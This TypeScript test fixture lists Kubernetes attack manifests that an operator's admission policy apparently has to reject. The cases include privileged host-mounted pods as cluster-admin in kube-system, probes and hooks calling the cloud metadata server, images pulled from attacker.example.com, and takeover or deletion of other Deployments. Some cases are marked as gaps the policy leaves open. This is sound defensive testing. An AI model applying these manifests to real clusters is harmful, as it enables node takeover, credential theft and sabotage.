import {
  type Attack,
  at,
  attack,
  LABELS,
  LISTED,
  metadata,
  OTHER,
  OWNER,
  REMAINS,
  REMAINS_ELSEWHERE,
  SERVED,
  TAKE_OVER,
} from './attack.ts';

const APPS = 'apps/v1';
const BATCH = 'batch/v1';

const CONTAINER = {
  name: 'view',
  image: 'attacker.example.com/tool:1',
  securityContext: { allowPrivilegeEscalation: false, capabilities: { drop: ['ALL'] } },
};

/** A pod as the operator generates it, with changes. */
function pod(change: object = {}): object {
  return {
    serviceAccountName: 'shop-app',
    securityContext: { runAsNonRoot: true, seccompProfile: { type: 'RuntimeDefault' } },
    containers: [CONTAINER],
    ...change,
  };
}

const container = (change: object) => pod({ containers: [{ ...CONTAINER, ...change }] });
const confined = (change: object) => container({ securityContext: { ...CONTAINER.securityContext, ...change } });
const volume = (source: object) => pod({ volumes: [{ name: 'v', ...source }] });

function deployment(spec: object, meta: object = metadata('stolen'), annotations: object = {}): object {
  const selector = { 'restapi.dev/name': 'shop', stolen: 'yes' };
  return {
    apiVersion: APPS,
    kind: 'Deployment',
    metadata: meta,
    spec: { selector: { matchLabels: selector }, template: { metadata: { labels: selector, annotations }, spec } },
  };
}

function job(spec: object, meta: object = metadata('stolen'), annotations: object = {}): object {
  return {
    apiVersion: BATCH,
    kind: 'Job',
    metadata: meta,
    spec: { template: { metadata: { annotations }, spec: { restartPolicy: 'Never', ...spec } } },
  };
}

const deploy = (spec: object, meta?: object, namespace?: string) =>
  ['POST', at(APPS, 'deployments', undefined, namespace), deployment(spec, meta)] as const;
const annotate = (annotations: object) =>
  ['POST', at(APPS, 'deployments'), deployment(pod(), undefined, annotations)] as const;
const run = (spec: object, meta?: object, namespace?: string) =>
  ['POST', at(BATCH, 'jobs', undefined, namespace), job(spec, meta)] as const;
const change = (name: string, spec: object) =>
  ['PATCH', at(APPS, 'deployments', name), { spec: { template: { spec } } }] as const;

const PRIVILEGED = { privileged: true, allowPrivilegeEscalation: true };
const OTHERS_PORT = { tcpSocket: { host: '10.0.0.1', port: 5432 } };
const METADATA_SERVER = { httpGet: { host: '169.254.169.254', port: 80 } };

/** Attacks by Deployments and Jobs. */
export const WORKLOAD_ATTACKS: Attack[] = [
  attack('Job with a privileged host container as cluster-admin in kube-system', [
    ...run(
      pod({
        ...confined(PRIVILEGED),
        serviceAccountName: 'clusterrole-aggregation-controller',
        hostPID: true,
        volumes: [{ name: 'v', hostPath: { path: '/' } }],
      }),
      metadata('stolen'),
      'kube-system',
    ),
  ]),
  attack('Deployment in kube-system that looks generated', deploy(pod(), undefined, 'kube-system')),
  attack('Deployment without a RestAPI as owner', deploy(pod(), { name: 'stolen', labels: LABELS })),
  attack('Job without a RestAPI as owner', run(pod(), { name: 'stolen', labels: LABELS })),
  attack('Deployment without the label of the operator', deploy(pod(), { name: 'stolen', ownerReferences: [OWNER] })),
  attack(
    'Deployment with a RestAPI as owner that is not its controller',
    deploy(pod(), metadata('stolen', { ownerReferences: [{ ...OWNER, controller: false }] })),
  ),
  attack(
    'Deployment with another kind as owner',
    deploy(pod(), metadata('stolen', { ownerReferences: [{ ...OWNER, apiVersion: 'apps/v1', kind: 'Deployment' }] })),
  ),
  attack(
    'Deployment marked as retained in place of an owner',
    deploy(pod(), {
      name: 'stolen',
      labels: LABELS,
      annotations: { 'restapi.dev/retained-for': JSON.stringify(OWNER) },
    }),
  ),
  attack('privileged container', deploy(confined(PRIVILEGED))),
  attack('privileged container in a Job', run(confined(PRIVILEGED))),
  attack(
    'privileged init container',
    deploy(pod({ initContainers: [{ ...CONTAINER, name: 'first', securityContext: PRIVILEGED }] })),
  ),
  attack('container that may gain privileges', deploy(confined({ allowPrivilegeEscalation: true }))),
  attack('container without a security context', deploy(container({ securityContext: undefined }))),
  attack('capability SYS_ADMIN', deploy(confined({ capabilities: { drop: ['ALL'], add: ['SYS_ADMIN'] } }))),
  attack('default capabilities', deploy(confined({ capabilities: { drop: ['KILL'] } }))),
  attack('container as root', deploy(confined({ runAsUser: 0 }))),
  attack('container that may run as root', deploy(confined({ runAsNonRoot: false }))),
  attack('pod that may run as root', deploy(pod({ securityContext: { seccompProfile: { type: 'RuntimeDefault' } } }))),
  attack('pod without seccomp', deploy(pod({ securityContext: { runAsNonRoot: true } }))),
  attack('container without seccomp', deploy(confined({ seccompProfile: { type: 'Unconfined' } }))),
  attack('container without AppArmor', deploy(confined({ appArmorProfile: { type: 'Unconfined' } }))),
  attack(
    'container without AppArmor, by an annotation',
    annotate({ 'container.apparmor.security.beta.kubernetes.io/view': 'unconfined' }),
  ),
  attack(
    'container without seccomp, by an annotation',
    annotate({ 'container.seccomp.security.alpha.kubernetes.io/view': 'unconfined' }),
  ),
  attack('Job without AppArmor, by an annotation', [
    'POST',
    at(BATCH, 'jobs'),
    job(pod(), undefined, { 'container.apparmor.security.beta.kubernetes.io/view': 'unconfined' }),
  ]),
  attack('container of a generated Deployment without AppArmor, by an annotation', [
    'PATCH',
    at(APPS, 'deployments', 'shop-view'),
    {
      spec: {
        template: {
          metadata: { annotations: { 'container.apparmor.security.beta.kubernetes.io/view': 'unconfined' } },
        },
      },
    },
  ]),
  attack(
    '/proc without masks',
    deploy(
      pod({
        hostUsers: false,
        containers: [{ ...CONTAINER, securityContext: { ...CONTAINER.securityContext, procMount: 'Unmasked' } }],
      }),
    ),
  ),
  attack('SELinux type of the host', deploy(confined({ seLinuxOptions: { type: 'spc_t' } }))),
  attack(
    'kernel parameters',
    deploy(
      pod({
        securityContext: {
          runAsNonRoot: true,
          seccompProfile: { type: 'RuntimeDefault' },
          sysctls: [{ name: 'kernel.msgmax', value: '1' }],
        },
      }),
    ),
  ),
  attack('network of the node', deploy(pod({ hostNetwork: true }))),
  attack('processes of the node', deploy(pod({ hostPID: true }))),
  attack('IPC of the node', deploy(pod({ hostIPC: true }))),
  attack('port of the node', deploy(container({ ports: [{ containerPort: 80, hostPort: 80 }] }))),
  attack('files of the node', deploy(volume({ hostPath: { path: '/' } }))),
  attack('files of the node in a Job', run(volume({ hostPath: { path: '/etc/kubernetes' } }))),
  attack('NFS server', deploy(volume({ nfs: { server: '10.0.0.1', path: '/' } }))),
  attack('CSI volume', deploy(volume({ csi: { driver: 'attacker.example.com' } }))),
  attack('volume of another application', deploy(volume({ persistentVolumeClaim: { claimName: 'payments' } }))),
  attack(
    'liveness probe that calls the metadata server of the cloud',
    deploy(container({ livenessProbe: METADATA_SERVER })),
  ),
  attack('readiness probe that calls a pod of others', deploy(container({ readinessProbe: OTHERS_PORT }))),
  attack('startup probe that calls a pod of others', deploy(container({ startupProbe: OTHERS_PORT }))),
  attack(
    'hook after the start that calls the metadata server of the cloud',
    deploy(container({ lifecycle: { postStart: METADATA_SERVER } })),
  ),
  attack(
    'hook before the end that calls the metadata server of the cloud',
    deploy(container({ lifecycle: { preStop: METADATA_SERVER } })),
  ),
  attack('pod on a node of choice, past the scheduler', deploy(pod({ nodeName: 'node-0' }))),
  attack('priority of the cluster itself', deploy(pod({ priorityClassName: 'system-node-critical' }))),
  attack(
    "pod under the operator's own account",
    deploy(pod({ serviceAccountName: 'restapi-operator' }), metadata('stolen'), 'restapi-system'),
  ),
  attack(
    `pod under a ServiceAccount that the namespace does not list`,
    deploy(pod({ serviceAccountName: 'deployer' }), undefined, LISTED),
  ),
  attack('change of the image of another Deployment', change('payments', pod({ containers: [CONTAINER] }))),
  attack('takeover of another Deployment by our label and owner', [
    'PATCH',
    at(APPS, 'deployments', 'payments'),
    TAKE_OVER,
  ]),
  attack('deletion of another Deployment', ['DELETE', at(APPS, 'deployments', 'payments')]),
  attack('deletion of another Job', ['DELETE', at(BATCH, 'jobs', 'backup')]),
  attack("change of the operator's own Deployment", [
    'PATCH',
    at(APPS, 'deployments', 'restapi-operator', 'restapi-system'),
    { spec: { paused: true } },
  ]),
  attack('privileged container in a generated Deployment', change('shop-view', confined(PRIVILEGED))),
  attack('files of the node in a generated Deployment', change('shop-view', volume({ hostPath: { path: '/' } }))),
  attack(
    'another image in a generated Deployment',
    change('shop-view', { containers: [CONTAINER] }),
    REMAINS,
    'releasing images is what the operator does',
  ),
  attack(
    'restricted pod with an image of choice',
    deploy(pod()),
    REMAINS,
    'a policy cannot look up whether the RestAPI exists; if it does not, the garbage collector deletes the pod',
  ),
  attack(
    'restricted pod in another namespace',
    deploy(pod(), undefined, OTHER),
    REMAINS_ELSEWHERE,
    'served, unless the operator is limited to one namespace',
  ),
  attack(
    'pod under another ServiceAccount of the namespace',
    deploy(pod({ serviceAccountName: 'deployer' })),
    REMAINS,
    'RestAPIs may name accounts; list them in the annotation restapi.dev/service-accounts of the namespace',
  ),
  attack(
    'pod with any Secret of the namespace as a volume',
    deploy(volume({ secret: { secretName: 'db' } })),
    REMAINS,
    'the token reads Secrets anyway',
  ),
  attack(
    'pod with labels that other Services select',
    [
      'POST',
      at(APPS, 'deployments'),
      {
        ...deployment(pod()),
        spec: {
          selector: { matchLabels: { app: 'payments' } },
          template: { metadata: { labels: { app: 'payments' } }, spec: pod() },
        },
      },
    ],
    REMAINS,
    'RestAPIs may set labels of pods (podLabels)',
  ),
  attack(
    'pod with annotations of meshes or runtimes',
    annotate({
      'sidecar.istio.io/proxyImage': 'attacker.example.com/tool:1',
      'io.kubernetes.cri-o.userns-mode': 'auto',
    }),
    REMAINS,
    'RestAPIs may set annotations of pods (podAnnotations)',
  ),
  attack('pod itself', ['POST', at('', 'pods'), { metadata: { name: 'stolen' }, spec: pod() }], [false, false, false]),
  attack(
    'DaemonSet',
    ['POST', at(APPS, 'daemonsets'), { ...deployment(pod()), kind: 'DaemonSet' }],
    [false, false, false],
  ),
  attack(
    `scale of another Deployment`,
    ['PATCH', at(APPS, 'deployments', 'payments/scale', SERVED), { spec: { replicas: 0 } }],
    [false, false, false],
  ),
];
